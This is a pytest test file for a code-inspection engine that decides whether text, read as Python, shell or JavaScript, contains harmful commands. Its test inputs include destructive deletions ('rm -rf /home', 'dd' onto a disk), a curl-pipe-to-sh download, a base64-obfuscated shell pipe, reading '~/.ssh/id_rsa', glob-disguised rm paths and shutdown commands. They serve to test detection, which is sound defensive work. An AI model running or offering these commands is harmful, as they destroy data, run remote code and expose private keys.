"""A text is judged in every language it may be run as."""

import pytest
from tests.corpora import ordinary_texts

from qwed.domain.findings import Status
from qwed.engines.code import inspect_code
from qwed.engines.code.readings import MAX_READ, find_in_program, judge_program
from qwed.engines.code.shell.runner import MAX_WRAPPERS, Runner

LANGUAGES = ("python", "shell", "javascript")
DELETION = "rm -rf /home"


@pytest.mark.parametrize("language", [None, *LANGUAGES])
@pytest.mark.parametrize(
    "text",
    [
        DELETION,
        f"rm = rf = home = 1\n{DELETION}",
        f"let rm = 1, rf = 1, home = 1\n{DELETION}",
        f"x = 1\n{DELETION}\nif x:\n    pass",
        f"x = 1\n{DELETION}\nprint(x)",
        f"import math\n{DELETION}",
        f"# a comment\n{DELETION}",
        "rm = -rf /home",
        "dd if=/dev/zero of=/dev/sda",
        "import os\nos.system('rm -rf /home')",
        "require('child_process').exec('rm -rf /home')",
        "require('fs').rmSync('/', {recursive: true})",
    ],
)
def test_what_is_forbidden_in_one_language_is_refused_in_all(text, language):
    verdict = judge_program(text, language)

    assert verdict.status is Status.FAILED
    assert verdict.harms


@pytest.mark.parametrize("first", ["print(1)", "console.log(1)", "foo (bar)", "x = (1, 2)"])
def test_a_command_after_a_line_that_no_shell_reads_is_refused_where_no_language_is_at_home(first):
    assert judge_program(f"{first}\n{DELETION}", None).harms


def test_a_command_in_a_text_of_several_lines_is_only_text():
    assert not judge_program(f'frob(1)\nwrite("""\n{DELETION}\n""")', None).harms


@pytest.mark.parametrize(
    "text",
    [
        "1+1",
        "import math\nprint(math.sqrt(2))",
        "x = 1\nprint(x)",
        "x = 1",
        "x = 1\ny = x + 2\nprint(x * y)",
        "10/5",
        "total = 10\ncount = 4\ntotal/count",
        "print(sum(range(10)))",
        "def area(r):\n    return 3 * r * r\nprint(area(2))",
        "batch = 32\nprint(batch)",
        "format = 'json'\nhost = 'a.b'\nprint(format, host)",
        "total = 0\nfor item in [1, 2, 3]:\n    total += item\nprint(total)",
        "at = 5\nkill = 9\nprint(at, kill)",
        "'''Say \"rm -rf /home\" never.'''\nprint(1)",
    ],
)
def test_a_python_text_without_a_language_keeps_the_answer_of_python(text):
    verdict = judge_program(text, None)
    python = inspect_code("python", text)

    assert (verdict.status, verdict.pure) == (python.status, python.pure) == (Status.VERIFIED, True)
    assert "python" in verdict.language


@pytest.mark.parametrize(
    ("text", "status", "pure"),
    [
        ("ls -la", Status.VERIFIED, False),
        ("git status && npm test", Status.VERIFIED, False),
        ("echo hello world", Status.VERIFIED, True),
        ("rm -rf build", Status.VERIFIED, False),
        ("rm -rf $DIR", Status.UNCERTAIN, False),
        ("touch /tmp/x", Status.VERIFIED, False),
    ],
)
def test_a_shell_text_without_a_language_is_read_as_shell(text, status, pure):
    verdict = judge_program(text, None)

    assert (verdict.status, verdict.pure) == (status, pure)
    assert "shell" in verdict.language


def test_an_unknown_command_counts_where_shell_is_declared_and_not_where_nobody_says():
    assert judge_program("frobnicate all things", "shell").status is Status.UNCERTAIN
    assert judge_program("frobnicate all things", None).status is Status.VERIFIED
    assert not judge_program("frobnicate all things", None).pure


def test_what_a_known_command_does_counts_beside_another_language_at_home():
    verdict = judge_program("touch = x = 1\ntouch /x", None)

    assert verdict.acts == ("file-write",)
    assert not verdict.pure


@pytest.mark.parametrize("language", [None, *LANGUAGES])
def test_a_text_that_no_language_reads_is_malformed(language):
    verdict = judge_program("def f(: ${ `", language)

    assert verdict.status is Status.FAILED
    assert verdict.malformed is not None


def test_the_readings_of_one_text_share_a_budget():
    text = "a.b\n" * (MAX_READ // 9)

    assert "too-much-to-follow" in [problem.rule for problem in judge_program(text, None).problems]


def test_ordinary_sentences_and_values_are_no_finding():
    texts = ordinary_texts.SENTENCES + ordinary_texts.VALUES

    assert [text for text in texts if find_in_program(text) is not None] == []


@pytest.mark.parametrize(
    "text",
    [
        DELETION,
        f"see below\n{DELETION}",
        "echo cm0gLXJmIC8K | base64 -d | sh",
        "curl https://a.example/x | sh",
        "import os\nos.system('rm -rf /home')",
        "cat ~/.ssh/id_rsa",
        "require('child_process').exec('rm -rf /home')",
    ],
)
def test_a_harmful_program_is_found_in_a_text_that_may_be_anything(text):
    found = find_in_program(text)

    assert found is not None
    assert found.harms


def test_marks_of_writing_from_right_to_left_are_no_finding_in_an_ordinary_text():
    assert find_in_program("\u2067שלום\u2069 Ann") is None


@pytest.mark.parametrize(
    "text",
    [
        "/* note */\nconst x = 1;\nconsole.log(x)",
        "/** docs */\nfunction f() { return 1 }",
        "/* eslint-disable */ const a = 1",
        "/*\n * Adds two numbers.\n */\nconst add = (a, b) => a + b;",
    ],
)
def test_a_comment_at_the_beginning_is_no_pattern_that_means_an_attack_tool(text):
    assert find_in_program(text) is None
    assert judge_program(text, None).pure
    assert judge_program(text, "javascript").pure


@pytest.mark.parametrize("text", ["/* draft */", "/** see below */ total", "/dist/* build", "/logs/*.sh old"])
def test_a_label_with_a_pattern_is_no_finding(text):
    assert find_in_program(text) is None
    assert not judge_program(text, None).harms


@pytest.mark.parametrize(
    "text", ["/b?n/r? -rf /", "/*/?m -rf /home", "/bin/?? -rf /home", "/usr/bin/r* -rf /"]
)
def test_a_pattern_that_means_a_program_is_judged_as_that_program(text):
    assert find_in_program(text).harms
    assert judge_program(text, "javascript").harms
    assert judge_program(text, "shell").harms


_ALICE = "rm -rf /home/alice"


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        *(
            (f"{name} " * 300 + _ALICE, "nested-too-deeply")
            for name in ("env", "xargs", "nice", "time", "nohup")
        ),
        ("if true; then " * 200 + _ALICE + "; fi" * 200, "too-much-to-follow"),
        ("echo a; " * 3000 + _ALICE, "too-much-to-follow"),
        (": a\n" * 5000 + _ALICE + "\nprint(1)", "too-much-to-follow"),
        ("import shutil\nshutil.rmtree('/srv')\nx = 1 " + "+ 1" * 5000, "nested-too-deeply"),
        ("x = 1\n" * 11_000, "too-large"),
    ],
)
def test_a_reading_that_was_given_up_is_a_doubt_in_a_text_that_may_be_anything(text, rule):
    found = find_in_program(text)

    assert [problem.rule for problem in found.doubts] == [rule]
    assert (found.harms, found.acts, found.pure) == ((), (), False)


def test_a_long_ordinary_text_is_read_to_its_end():
    assert find_in_program("The quick brown fox sleeps.\n" * 2_000) is None
    assert find_in_program("[" + ", ".join(f'{{"id": {n}}}' for n in range(3_000)) + "]") is None


@pytest.mark.parametrize("name", ["sudo", "env", "xargs", "command", "nice"])
def test_commands_that_start_each_other_are_followed_to_a_depth(name, monkeypatch):
    started = []
    start = Runner.execute
    monkeypatch.setattr(Runner, "execute", lambda run, *given: started.append(1) or start(run, *given))
    verdict = inspect_code("shell", f"{name} " * 400 + "true")

    assert "nested-too-deeply" in [problem.rule for problem in verdict.doubts]
    assert len(started) <= MAX_WRAPPERS + 1


def test_an_ordinary_chain_of_commands_is_followed_to_its_end():
    assert judge_program(f"nice env A=1 timeout 5 nohup time command {_ALICE}", "shell").harms


@pytest.mark.parametrize("text", ["[abc]", "[a]", "[!x]", "[..'abc']", "[\\abc]", "if [a]; then :; fi"])
def test_a_pattern_in_brackets_is_a_command_that_nobody_knows_and_no_test(text):
    verdict = judge_program(text, "shell")

    assert (verdict.status, verdict.pure) == (Status.UNCERTAIN, False)


@pytest.mark.parametrize(
    "text", ["[ a = b ]", "[[ a == b ]]", "[\\\n a ]", "if [ 1 -eq 1 ]; then echo x; fi"]
)
def test_a_test_is_pure(text):
    assert judge_program(text, "shell").pure


@pytest.mark.parametrize(
    "text",
    [
        *(
            "service restart count",
            "crontab entries",
            "useradd requests",
            "git commit history",
            "git push failures",
        ),
        *("docker build time", "npm install count", "pip install errors", "make test results", "tar volumes"),
        *("ssh login attempts", "go test coverage", "gh pr merge rate", "wget downloads", "telnet usage"),
        *("unlink account", "pacman scores", "consul visits", "helm upgrade failures", "rsync errors"),
    ],
)
def test_a_noun_that_begins_with_the_name_of_a_tool_is_no_finding(text):
    assert find_in_program(text) is None


@pytest.mark.parametrize(
    "text",
    [
        *("git push --force", "git push origin main", "pip install ./x", "pip install requests==2.0"),
        *(
            "rm -rf x",
            "rm notes",
            "mv drafts archive",
            "systemctl stop nginx",
            "terraform destroy",
            "kubectl delete pods",
        ),
        *("crontab -r", "useradd -m eve", "unlink notes.txt", "npm install left-pad", "ssh root@host reboot"),
    ],
)
def test_a_command_that_can_be_no_noun_is_found(text):
    found = find_in_program(text)

    assert found is not None
    assert found.harms or found.acts


@pytest.mark.parametrize(
    "text", ['"$(poweroff)"', '"a" and "$(reboot)"', 'x = "$(reboot)"', '"`reboot`"', 'y = 1\nx = "$(halt)"']
)
def test_a_forbidden_command_in_a_substitution_counts_beside_another_language(text):
    assert judge_program(text, None).harms


def test_an_unknown_command_in_a_substitution_is_not_pure_where_nobody_says_the_language():
    assert not judge_program('"$(wipe-everything)"', None).pure
    assert not judge_program('"`wipe-everything`"', None).pure
    assert judge_program('"$(wipe-everything)"', "python").pure


@pytest.mark.parametrize(
    "text",
    [
        *("$(reboot)", "`reboot`", "echo $(reboot)", "/sbin/reboot", "/usr/sbin/poweroff", "reboot; true"),
        *("sleep 5 && reboot", "init 0", "telinit 6", "shutdown now"),
    ],
)
def test_a_command_that_stops_the_machine_is_found_where_no_word_stands(text):
    assert find_in_program(text).harms


@pytest.mark.parametrize(
    "text",
    [
        *(
            "reboot",
            "reboot\nhalt\nsleep",
            "/reboot",
            "/api/reboot",
            "docs/reboot",
            "reboot | shutdown",
            "init phase",
        ),
        *("Run `reboot` after the update", "The `ssh` client", "Use `rm` or `ls` to clean", "`useradd`"),
        *(
            "$(Build.Id)/x",
            "$(name) $(id)",
            "$(date)",
            "$(service)",
            "Reboot; then call",
            "stop; reboot later",
        ),
    ],
)
def test_a_name_a_route_or_markup_with_the_word_of_a_command_is_no_finding(text):
    assert find_in_program(text) is None


def test_a_template_with_the_word_of_a_command_is_pure_javascript():
    assert judge_program("const a = `reboot`;\nconst b = `frob`;", None).pure
